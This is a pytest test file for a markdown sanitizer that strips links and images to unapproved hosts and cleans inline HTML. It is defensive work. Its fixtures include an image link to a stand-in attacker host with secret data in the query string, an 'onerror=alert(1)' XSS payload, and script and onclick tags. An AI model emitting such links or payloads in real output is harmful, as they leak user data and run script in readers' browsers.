"""How markdown is rewritten: exact outputs, as a table keyed by a sentence.

A block with nothing to remove is copied byte for byte; a block with something to remove is
rebuilt, keeping its container prefixes and line structure, with text escaped so that nothing
the removal leaves behind can form a new construct.
"""

from __future__ import annotations

import pytest

from egresslock import sanitize
from egresslock.sanitize import SanitizePolicy

CASES = [
    ("a kept block is copied as written",
     "Use *this* [doc](https://docs.acme-corp.example/a) -- or that.\n",
     "Use *this* [doc](https://docs.acme-corp.example/a) -- or that.\n"),
    ("a removed link keeps its text and formatting",
     "Click [**here** `now`](https://evil.example/) please.\n",
     "Click **here** `now` please.\n"),
    ("kept links in a rebuilt block are written inline",
     "[a](https://docs.acme-corp.example/a \"T\") ![b](https://evil.example/b.png)\n",
     '[a](<https://docs.acme-corp.example/a> "T") b\n'),
    ("a blockquote keeps its markers on every line",
     "> line one ![x](https://evil.example/x)\n> line two\n",
     "> line one x\n> line two\n"),
    ("a list item keeps its marker and indentation",
     "1. first [y](https://evil.example/)\n   still first\n2. second\n",
     "1. first y\n   still first\n2. second\n"),
    ("an ATX heading stays a heading",
     "## Title ![i](https://evil.example/i.png) ##\n",
     "## Title i\n"),
    ("a setext heading keeps its underline",
     "Title [t](https://evil.example/)\n=====\n",
     "Title t\n=====\n"),
    ("a table row is rebuilt cell by cell, pipes escaped",
     "| a | b |\n|---|---|\n| [p\\|q](https://evil.example/) | `c\\|d` |\n",
     "| a | b |\n|---|---|\n| p\\|q | `c\\|d` |\n"),
    ("label text cannot become a heading, list or link",
     "[# not a heading](https://evil.example/)\n[- nor a list](https://evil.example/)\n",
     "\\# not a heading\n\\- nor a list\n"),
    ("escaped brackets stay escaped",
     "[\\[a\\](https://evil.example/x)](https://evil.example/y)\n",
     "\\[a\\](\\(link removed\\))\n"),
    ("raw inline html is cleaned tag by tag",
     'Press <kbd>Ctrl</kbd> <span onclick="x()">now</span><script>1</script>\n',
     "Press <kbd>Ctrl</kbd> <span>now</span>1\n"),
    ("html that a lenient renderer would see is escaped",
     "a <img src=x onerror=alert(1) / > b\n",
     "a \\<img src=x onerror=alert(1) / > b\n"),
    ("a definition leaves an empty line, its use is inlined",
     "[d]: https://docs.acme-corp.example/d\n\nSee [d].\n",
     "\n\nSee [d](<https://docs.acme-corp.example/d>).\n"),
    ("allowed bare URLs become autolinks in a rebuilt block",
     "go https://docs.acme-corp.example/x\n",
     "go <https://docs.acme-corp.example/x>\n"),
    ("bare host names are left alone",
     "see setup.py, python.org and www.python.org\n",
     "see setup.py, python.org and www.python.org\n"),
    ("footnotes keep their markers",
     "Claim.[^n]\n\n[^n]: Source [s](https://evil.example/s)\n",
     "Claim.[^n]\n\n[^n]: Source s\n"),
]


@pytest.mark.parametrize(("why", "text", "expected"), CASES, ids=[c[0] for c in CASES])
def test_rewrite(compiled: SanitizePolicy, why: str, text: str, expected: str) -> None:
    assert sanitize.markdown(text, compiled) == expected


def test_too_deep_nesting_is_replaced_by_a_note(compiled: SanitizePolicy) -> None:
    removals: list[sanitize.Removal] = []
    out = sanitize.markdown("> " * 60 + "![x](https://evil.example/x.png)\n", compiled,
                            on_removal=removals.append)
    assert "evil.example" not in out
    assert "could not be checked" in out
    assert removals[0].element == "content"


def test_code_is_never_touched(compiled: SanitizePolicy) -> None:
    text = ("```\n<img src=https://evil.example/a>\n\n[x](https://evil.example/b)\n```\n\n"
            "    ![i](https://evil.example/c)\n\n`<https://evil.example/d>`\n")
    assert sanitize.markdown(text, compiled) == text


def test_removal_describes_without_the_query(compiled: SanitizePolicy) -> None:
    removals: list[sanitize.Removal] = []
    sanitize.markdown("![a](https://evil.example/p/q.png?d=SECRETDATA)\n", compiled,
                      on_removal=removals.append)
    (removal,) = removals
    assert removal.describe() == ("removed image to evil.example/p/q.png: host evil.example is "
                                  "not in output.images")
    assert removal.as_dict()["path"] == "/p/q.png"
    assert "SECRETDATA" not in str(removal.as_dict())


def test_a_parser_failure_fails_closed(compiled: SanitizePolicy,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """markdown-it-py 4.3 raises IndexError on '> - <pre>\\n> '; whatever the parser raises on
    is replaced by a note, never passed through unchecked."""
    from markdown_it import MarkdownIt

    def broken(self: MarkdownIt, src: str, env: object = None) -> object:
        raise IndexError("string index out of range")

    monkeypatch.setattr(MarkdownIt, "parse", broken)
    out = sanitize.markdown("[x](https://evil.example/)\n\nnext ![i](https://evil.example/)",
                            compiled)
    assert "evil.example" not in out
    assert out.count("could not be checked") == 2
